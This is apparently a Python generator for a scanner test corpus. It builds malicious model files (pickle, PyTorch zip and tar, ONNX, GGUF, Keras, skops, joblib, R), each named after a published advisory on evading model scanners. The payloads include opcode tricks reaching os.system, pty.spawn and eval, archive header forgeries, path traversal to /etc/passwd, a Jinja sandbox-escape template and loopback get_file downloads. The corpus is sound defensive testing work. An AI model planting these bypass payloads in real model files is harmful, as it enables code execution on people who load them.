"""Published ways round other scanners, one or more cases for each, named after its advisory.

What only concerns a running process (a hook that misses an entry point) has no file and no case.
"""

import gzip
import io
import json
import lzma
import struct

import h5py
import py7zr
from onnx import helper

import gguf_files
import joblib_files
import keras_files
import numpy_files
import onnx_files
import r_files
import skops_files
import torch_layout
import zip_bytes
from archives import entry
from cases import slug
from pickle_code import Code, build, call, const, name, payload, pickled, shell, short_text, then
from torch_layout import tar_bytes, zip_of_pickle
from zip_bytes import Member

# Advisories of missing names: identifier, module, attribute, arguments.
NAMES = [
    ("GHSA-655q-fx9r-782v", "pip", "main", ["install", "x"]),
    ("GHSA-f7qq-56ww-84cr", "asyncio.unix_events", "_UnixSubprocessTransport._start", "true"),
    ("GHSA-m7j5-r2p5-c39r", "logging", "FileHandler", "/tmp/weighbridge"),
    ("GHSA-9m3x-qqw2-h32h", "cloudpickle.cloudpickle", "subimport", "os"),
    ("GHSA-9m3x-qqw2-h32h", "cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
    ("GHSA-9m3x-qqw2-h32h", "cloudpickle.cloudpickle", "_make_function", 1, 2, 3, 4, 5),
    ("GHSA-9726-w42j-3qjr", "_io", "FileIO", "/etc/passwd"),
    ("GHSA-9726-w42j-3qjr", "urllib.request", "urlopen", "http://127.0.0.1/"),
    ("GHSA-g38g-8gr9-h9xp", "uuid", "_get_command_stdout", "true"),
    ("GHSA-g38g-8gr9-h9xp", "imaplib", "IMAP4_stream", "true"),
    ("GHSA-g38g-8gr9-h9xp", "_pyrepl.pager", "pipe_pager", "a", "true"),
    ("GHSA-g38g-8gr9-h9xp", "_osx_support", "_read_output", "true"),
    ("GHSA-g38g-8gr9-h9xp", "_aix_support", "_read_cmd_output", "true"),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name", "os:system"),
    ("GHSA-7wx9-6375-f5wh", "profile", "run", "pass"),
    ("GHSA-m273-6v24-x4m4", "operator", "methodcaller", "system", "true"),
    ("GHSA-955r-x9j8-7rhh", "_operator", "methodcaller", "__import__", "os"),
    ("GHSA-46h3-79wf-xr6c", "trace", "Trace.run", 1, "pass"),
    ("GHSA-4675-36f9-wf6r", "pdb", "run", "pass"),
    ("GHSA-84r2-jw7c-4r5q", "_pickle", "loads", payload()),
    ("GHSA-84r2-jw7c-4r5q", "torch.utils._config_module", "ConfigModule.load_config", 1, payload()),
    ("GHSA-vqmv-47xg-9wpr", "venv", "EnvBuilder", "/tmp/v"),
    ("GHSA-vqmv-47xg-9wpr", "ensurepip", "bootstrap"),
    ("GHSA-hgrh-qx5j-jfwx", "socketserver", "TCPServer", ("127.0.0.1", 9), 1),
    ("GHSA-r8g5-cgf2-4m4m", "lib2to3.pgen2.driver", "load_grammar", "/tmp/g"),
    ("GHSA-x843-g5mx-g377", "ctypes", "CDLL", "/tmp/x.so"),
    ("GHSA-3329-ghmp-jmv5", "numpy.f2py.crackfortran", "getlincoef", "1", {}),
    ("GHSA-cffc-mxrf-mhh4", "distutils.file_util", "write_file", "/tmp/a", ["x"]),
    ("GHSA-rrxm-2pvv-m66x", "pty", "spawn", "true"),
    ("GHSA-6556-fwc2-fg2p", "pydoc", "pipepager", "a", "true"),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start", 1, "true"),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run", "pass"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", "pass", {}, {}),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", "pass"),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", 1, "pass"),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", 1, "pass"),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", 1, "pass"),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", 1, 1, "'1'"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", ["install"]),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", "pass", {}),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", "1"),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", 1, "1"),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", 1, "pass"),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.get_entity", 1, "1"),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.fetch_completions", 1, "1", 1),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", 1, "1"),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads", 1, payload()),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.run", 1, "pass"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.runctx", 1, "pass", {}, {}),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", 1, "pass"),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.runfunc", 1, name("os", "system"), "true"),
    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", "pass"),
    ("GHSA-565g-hwwr-4pp3", "types", "FunctionType", call("marshal", "loads", b"N"), {}),
    ("GHSA-wfq2-52f7-7qvj", "runpy", "run_path", "/tmp/a.py"),
    ("GHSA-p523-jq9w-64x9", "cProfile", "runctx", "pass", {}, {}),
    ("CVE-2026-22608", "pydoc", "locate", "os.system"),
    ("CVE-2026-22608", "ctypes", "PyDLL", None),
    ("CVE-2026-22609", "importlib.machinery", "ExtensionFileLoader", "a", "/tmp/a.so"),
    ("CVE-2026-22612", "builtins", "eval", "1"),
    ("GHSA-5hwf-rc88-82xm", "_osx_support", "_find_build_tool", "true"),
    ("GHSA-r48f-3986-4f9c", "linecache", "getlines", "/etc/passwd"),
    ("GHSA-r48f-3986-4f9c", "difflib", "HtmlDiff.make_file", 1, call("linecache", "getlines", "/etc/passwd"), []),
    ("GHSA-5cxw-w2xg-2m8h", "platform", "_syscmd_ver", "a", "b", "c", ("true",)),
    ("GHSA-m6fh-58r7-x697", "_posixsubprocess", "fork_exec", ("true",)),
    ("GHSA-m6fh-58r7-x697", "site", "addsitedir", "/tmp"),
    ("GHSA-m6fh-58r7-x697", "atexit", "register", name("os", "system"), "true"),
    ("GHSA-pc6j-px3p-rrj4", "test.support.os_helper", "rmtree", "/tmp/weighbridge"),
    ("GHSA-pc6j-px3p-rrj4", "doctest", "testfile", "/tmp/a"),
    ("GHSA-6ggj-6f2q-f7mx", "_interpreters", "run_string", 0, "pass"),
    ("CVE-2024-5480", "torch.distributed.rpc", "remote", "w", name("os", "system"), ("true",)),
    ("CVE-2024-48063", "torch.distributed.rpc.api", "_invoke_rpc", "w", name("os", "system"), 0),
    ("CVE-2022-45907", "torch.jit.annotations", "parse_type_line", "# type: () -> 1", None),
    ("CVE-2020-13092", "pandas", "read_pickle", "http://127.0.0.1/x"),
    ("CVE-2019-6446", "numpy", "load", "/tmp/a.npy", None, True),
]
FORMS = ("stack", "global", "obj", "inst")


def make(cases):
    family = cases.family("bypass")
    for at, (identity, module, attribute, *args) in enumerate(NAMES):
        form = "stack" if "." in attribute else FORMS[at % 4]
        data = pickled(call(module, attribute, *args, form=form), 4 if form == "stack" else 2)
        file, data = (("model.pkl", data), ("pytorch_model.bin", zip_of_pickle(data)))[at % 2]
        family.malicious(f"{slug(identity)}-{slug(module)}.{slug(attribute)}", file, data, f"{identity}: {module}.{attribute} was not in the list")
    pickles(family)
    zips(family)
    formats(family)
    keras(family)


def pickles(family):
    evil = payload()
    registered = call("copyreg", "add_extension", "os", "system", 1)
    two = lambda body: b"\x80\x02" + body + b"."
    rows = [
        ("cve-2025-10155", "model.bin", evil, "CVE-2025-10155: a bare pickle under an extension of PyTorch"),
        ("cve-2025-10155-pt", "model.pt", evil, "CVE-2025-10155 with .pt"),
        ("cve-2025-10155-pth", "model.pth", payload(4), "CVE-2025-10155 with .pth"),
        ("cve-2025-10155-ckpt", "model.ckpt", payload(0), "CVE-2025-10155 with .ckpt, protocol 0"),
        ("ghsa-9gvj-pp9x-gcfr", "model.pkl", two(shell())[:-1] + b"\xff", "GHSA-9gvj-pp9x-gcfr: what was seen before an error was forgotten"),
        ("ghsa-97f8-7cmv-76j2", "model.pth", pickled(call("builtins", "eval", "0x1950a86a20f9469cfc6c")) + pickled(1001) + pickled({}) + evil + pickled([]), "GHSA-97f8-7cmv-76j2: the magic of the legacy layout by eval"),
        ("memo-confusion", "model.pkl", b"\x80\x04" + short_text("os") + b"q\x00" + short_text("x") + b"\x94" + b"00" + short_text("system") + b"q\x020h\x00h\x02\x93" + const(("echo",)) + b"R.", "PUT and MEMOIZE mixed (issue 14, pull requests 16 and 23)"),
        ("memoize-ignored", "model.pkl", b"\x80\x04" + short_text("os") + b"\x940" + short_text("system") + b"\x940h\0h\1\x93" + const(("echo",)) + b"R.", "MEMOIZE without an argument (issue 22)"),
        ("line-ends", "model.pkl", b"\x80\x02cos\r\nsystem\r\n" + const(("echo",)) + b"R.", "line ends in GLOBAL (pull request 26)"),
        ("open-importlib", "model.pkl", pickled(call("importlib", "import_module", "os")), "importlib stays open (issue 66)"),
        ("open-marshal", "model.pkl", pickled(call("marshal", "loads", b"N")), "marshal stays open (issue 66)"),
        ("open-import", "model.pkl", pickled(call("builtins", "__import__", "os")), "__import__ stays open (issue 66)"),
        ("ghsa-r7v6-mfhq-g3m2", "model.pkl", two(call("pty", "spawn", "true", form="obj") + b"0N"), "GHSA-r7v6-mfhq-g3m2: OBJ leaves no unused variable"),
        ("ghsa-mxhj-88fx-4pcv", "model.pkl", two(b"(" + call("os", "system", "echo", form="obj") + b"1N"), "GHSA-mxhj-88fx-4pcv: OBJ inside a mark that is thrown away"),
        ("ghsa-mhc9-48gj-9gp3", "model.pkl", two(shell() + b"}b0]"), "GHSA-mhc9-48gj-9gp3: REDUCE and BUILD hide an unused result"),
        ("ghsa-cffv-grgg-g429", "model.pkl", pickled([call("mypackage", "a"), call("mypackage", "b"), shell()]), "GHSA-cffv-grgg-g429: a set of what was seen, shared by several checks"),
        ("ghsa-5j3x-jp52-966f", "model.pkl", b"\x80\x04" + short_text("torch") + short_text("serialization.os.system") + b"\x93" + const(("echo",)) + b"R.", "GHSA-5j3x-jp52-966f: a dotted name in STACK_GLOBAL"),
        ("issue-196", "model.pkl", two(b"]q\0h\0a0" + shell()), "a cycle that ends the reader (issue 196)"),
        ("measured-put-after-pop", "model.pkl", b"\x80\x04" + short_text("os") + short_text("json") + b"0q\x000" + short_text("system") + short_text("loads") + b"0q\x010h\0h\1\x93" + const(("echo",)) + b"R.", "PUT after POP"),
        ("measured-hop-collections", "model.pkl", b"\x80\x04" + short_text("collections") + short_text("abc.sys.modules.get") + b"\x93" + const(("os",)) + b"R.", "a hop from collections to sys"),
        ("measured-extension", "model.pkl", two(then(registered, Code(b"\x82\x01" + const(("echo",)) + b"R"))), "an extension registered in the same pickle"),
        ("measured-unicode-escape", "model.pkl", b"\x80\x04V\\u006fs\nVsystem\n\x93(S'echo'\ntR.", "names with unicode escapes"),
        ("measured-string-escape", "model.pkl", b"\x80\x04S'\\x6fs'\nS'system'\n\x93(S'echo'\ntR.", "names with hex escapes"),
        ("measured-sibling", "model.pkl", pickled(call("payload", "run")), "imports a module that lies beside it"),
        ("saferpickle-41", "model.pkl", b"use " + b"\n" + evil, "a prefix that a fast check takes for text (pull request 41)"),
        ("saferpickle-46", "model.pkl", b"PK\7\x08" + evil, "the signature of a data descriptor in front (pull request 46)"),
        ("cve-2026-24747", "model.pt", zip_of_pickle(two(name("collections", "OrderedDict") + b")R" + const("a") + name("os", "system") + b"s" + name("sys", "modules") + const("a") + const(1) + b"s0")), "CVE-2026-24747: SETITEM on what is no dict"),
    ]
    for case, file, data, note in rows:
        family.malicious(case, file, data, note)
    family.malicious("measured-sibling", "payload.py", "import os\n\n\ndef run():\n    os.system('echo weighbridge')\n\n\nrun()\n", "the module which the pickle beside it imports")
    family.malicious("measured-package", "model.pkl", pickled(call("net.layers", "Net", form="newobj")), "imports a package that lies beside it")
    family.malicious("measured-package", "net/__init__.py", "import os\n\nos.system('echo weighbridge')\n", "the package which the pickle beside it imports")
    family.malicious("measured-package", "net/layers.py", "import os\n\n\nclass Net:\n    pass\n\n\nos.system('echo weighbridge')\n", "its module")
    family.malicious("cve-2025-32434", "model.pt", torch_layout.tar_file(evil), "CVE-2025-32434: the old tar layout under weights_only")
    family.malicious("joblib-fake-stop", "model.joblib", joblib_files.array_then(shell(), b"]." + bytes(30)), "a payload after a raw array, with a STOP in the array's data")
    family.malicious("joblib-gzip-members", "model.pkl.gz", gzip.compress(pickled([1]), mtime=0) + gzip.compress(evil, mtime=0), "two gzip members")
    family.malicious("cve-2022-21797", "model.joblib", pickled(build(call("joblib.parallel", "Parallel", form="newobj"), {"pre_dispatch": "__import__('os').system('true')", "n_jobs": 2})), "CVE-2022-21797: pre_dispatch is evaluated")
    family.malicious("cve-2024-34997", "model.joblib", pickled(build(call("joblib.numpy_pickle_compat", "NDArrayWrapper", form="newobj"), {"filename": "../x.npy", "subclass": name("numpy", "ndarray"), "allow_mmap": False})), "CVE-2024-34997: an array wrapper that loads another file as a pickle")
    family.malicious("cve-2019-6446", "array.npy", numpy_files.npy(numpy_files.described("'|O'", "(1,)"), evil), "CVE-2019-6446: an array of objects")
    family.malicious("nullifai", "pytorch_model.bin", seven({"archive/data.pkl": two(shell())[:-1] + b"\x00\xff"}), "nullifAI: 7z for zip, and a stream that breaks after its payload")


def seven(files):
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as made:
        for file, data in files.items():
            made.writef(io.BytesIO(data), file)
    return out.getvalue()


def zips(family):
    evil = payload()
    good = [Member("archive/version", b"3\n")]
    rows = [
        ("cve-2025-1889", [*good, Member("archive/data.pkl", pickled({})), Member("archive/config.p", evil)], "CVE-2025-1889: a pickle under an unlisted extension"),
        ("cve-2025-1944", [*good, Member("archive/data.pkl", evil, local={"name": b"archive/data.txt"})], "CVE-2025-1944: the local name differs"),
        ("cve-2025-1945", [*good, Member("archive/data.pkl", evil, flags=1)], "CVE-2025-1945: flags say encrypted"),
        ("cve-2025-1945-local", [*good, Member("archive/data.pkl", evil, local={"flags": 0x21})], "CVE-2025-1945: one header's flags say encrypted and patched"),
        ("cve-2025-10156", [Member("archive/data.pkl", evil, local={"crc": 1}, central={"crc": 1})], "CVE-2025-10156: a bad checksum"),
        ("issue-354", [Member("archive/decoy", b"x", central={"crc": 1}), Member("archive/data.pkl", evil)], "one bad entry ends the walk, and the next is not read (issue 354)"),
        ("measured-local-only", [*good, Member("archive/data.pkl", evil, only="local")], "a member only in the local headers"),
        ("measured-size-lie", [*good, Member("archive/data.pkl", evil, central={"size": 2, "packed": 2})], "the directory says the member is shorter"),
        ("measured-duplicate", [Member("archive/data.pkl", pickled({})), Member("archive/data.pkl", evil)], "the same member twice"),
    ]
    for case, members, note in rows:
        family.malicious(case, "model.pt", zip_bytes.archive(members), note)
    family.malicious("issue-nested-zip", "model.zip", zip_bytes.plain({"a.zip": zip_bytes.plain({"model.pkl": evil})}), "a zip in a zip")
    family.malicious("measured-tar", "model.pt", tar_bytes([("sys_info", evil), ("pickle", evil), ("storages", b""), ("tensors", b"")]), "the oldest layout")
    family.malicious("measured-zst", "model.pkl.xz", lzma.compress(evil), "a compression that others do not open")


def formats(family):
    outside = onnx_files.outside
    rows = [
        ("cve-2022-25882", onnx_files.model(None, [outside(location="../../../../etc/passwd")]), "CVE-2022-25882: weights above the folder"),
        ("cve-2024-27318", onnx_files.model(None, [outside(location="/etc/passwd")]), "CVE-2024-27318: the check of the fix is passed by another spelling"),
        ("cve-2024-5187", onnx_files.model(None, [outside(location="a/../../../../.bashrc")]), "CVE-2024-5187: a path that climbs in the middle"),
        ("cve-2025-51480", onnx_files.model([helper.make_node("Constant", [], ["y"], value=outside(location="../../x"))], []), "CVE-2025-51480: the same in an attribute"),
    ]
    for case, made, note in rows:
        family.malicious(case, "model.onnx", onnx_files.raw(made), note)
    hand, named, most = gguf_files.hand, gguf_files.NAMED, (1 << 64) - 1
    overflows = [
        ("cve-2024-25664", hand(named, n_pairs=most)),
        ("cve-2024-25665", hand([struct.pack("<Q", most)], n_pairs=1)),
        ("cve-2024-25666", hand([gguf_files.text("a") + struct.pack("<IQ", 8, most)], n_pairs=1)),
        ("cve-2024-25667", hand(named, n_tensors=(1 << 64) // 88 + 1)),
        ("cve-2024-25668", hand(named, [gguf_files.tensor(count=1 << 30)], bytes(32))),
        ("cve-2024-23496", hand([gguf_files.text("a") + struct.pack("<IIQ", 9, 8, (1 << 64) // 16 + 1)], n_pairs=1)),
        ("cve-2024-21802", hand(named, [gguf_files.tensor(kind=99)], bytes(32))),
        ("cve-2024-21825", hand([gguf_files.text("a") + struct.pack("<IIQ", 9, 8, most)], n_pairs=1)),
        ("cve-2024-21836", hand(named, n_tensors=most)),
        ("cve-2024-23605", hand([gguf_files.text("a") + struct.pack("<IIQ", 9, 12, (1 << 64) // 8 + 1)], n_pairs=1)),
    ]
    for case, data in overflows:
        family.suspicious(case, "model.gguf", data, f"{case.upper()}: a count that overflows the reader's arithmetic")
    template = "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__['__builtins__']['eval'](\"__import__('os').system('echo weighbridge')\") }}{% endif %}{% endfor %}"
    family.malicious("cve-2024-34359", "model.gguf", gguf_files.real(template=template), "CVE-2024-34359: a template that breaks out of its renderer")
    family.malicious("cve-2025-23304", "asr.nemo", tar_bytes([("model_config.yaml", b"target: nemo.core.classes.modelPT.ModelPT\nhook:\n  _target_: os.system\n  command: echo\n"), ("model_weights.ckpt", torch_layout.zip_file({}))]), "CVE-2025-23304: a target of hydra inside a model of NeMo")
    family.malicious("cve-2025-54412", "model.skops", skops_files.schema(skops_files.node("OperatorFuncNode", "operator", "methodcaller", {"attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}})), "CVE-2025-54412: the type that is shown is not the one that is called")
    family.malicious("cve-2025-54413", "model.skops", skops_files.schema(skops_files.node("MethodNode", "builtins", "int", {"func": "__globals__", "obj": skops_files.node("TypeNode", "os", "path")})), "CVE-2025-54413: a method of an object that nobody checks")
    family.malicious("cve-2025-54886", "model.skops", joblib_files.dumped([1])[:-1] + shell() + b"0.", "CVE-2025-54886: joblib in place of skops")
    family.malicious("cve-2024-27322", "model.rds", r_files.squeezed(r_files.promise(r_files.run())), "CVE-2024-27322: a promise")
    family.malicious("zip-slip", "saved_model.tar.gz", gzip.compress(tar_bytes([("saved_model.pb", b"\x08\x01"), (entry("../../../tmp/weighbridge"), b"x")]), mtime=0), "a tar that leaves its folder, as loaders of saved models unpack it")


def keras(family):
    model, layer = keras_files.model, keras_files.layer
    call_of = keras_files.call_of
    rows = [
        ("cve-2024-3660", model(keras_files.lambda_layer())),
        ("cve-2025-1550", model({"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"})),
        ("cve-2025-8747", model(layer("Lambda", function=call_of("keras.utils", "get_file"), arguments={"origin": "http://127.0.0.1/x", "cache_dir": "/tmp"}))),
        ("cve-2025-9906", model(layer("Lambda", function=call_of("keras.config", "enable_unsafe_deserialization")), keras_files.lambda_layer())),
        ("cve-2025-12058", model(layer("StringLookup", vocabulary="file:///etc/passwd"))),
        ("cve-2025-49655", model({**layer("TorchModuleWrapper"), "config": {"name": "t", "module": "gAKVAQAAAA=="}})),
        ("cve-2025-12060", model({"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file", "kwargs": {"origin": "http://127.0.0.1/x.tar.gz", "untar": True}})),
        ("cve-2026-1462", model(layer("TFSMLayer", filepath="/tmp/saved", call_endpoint="serve"))),
    ]
    for case, config in rows:
        family.malicious(case, "model.keras", keras_files.archive(config), f"{case.upper()} of Keras")
    old = {"class_name": "Lambda", "config": {"name": "l", "function": [keras_files.code(), None, None], "function_type": "lambda"}}
    family.malicious("cve-2025-9905", "model.h5", keras_files.whole(keras_files.old(old)), "CVE-2025-9905: HDF5 does not ask for safe_mode")
    family.malicious("cve-2026-1669", "model.weights.h5", keras_files.h5(lambda file: file.create_dataset("kernel", (4,), "f4", external=[("/etc/hostname", 0, h5py.h5f.UNLIMITED)])), "CVE-2026-1669: a dataset whose bytes are another file")
    family.malicious("keras-zip-slip", "model.keras", keras_files.archive(model(keras_files.dense()), {"../../../tmp/weighbridge": "x"}), "a member that leaves the folder")
    family.malicious("keras-nested-text", "model.keras", keras_files.archive(json.dumps({"module": "keras", "class_name": "Sequential", "config": json.dumps(model(keras_files.lambda_layer()))})), "a configuration as text in a configuration")
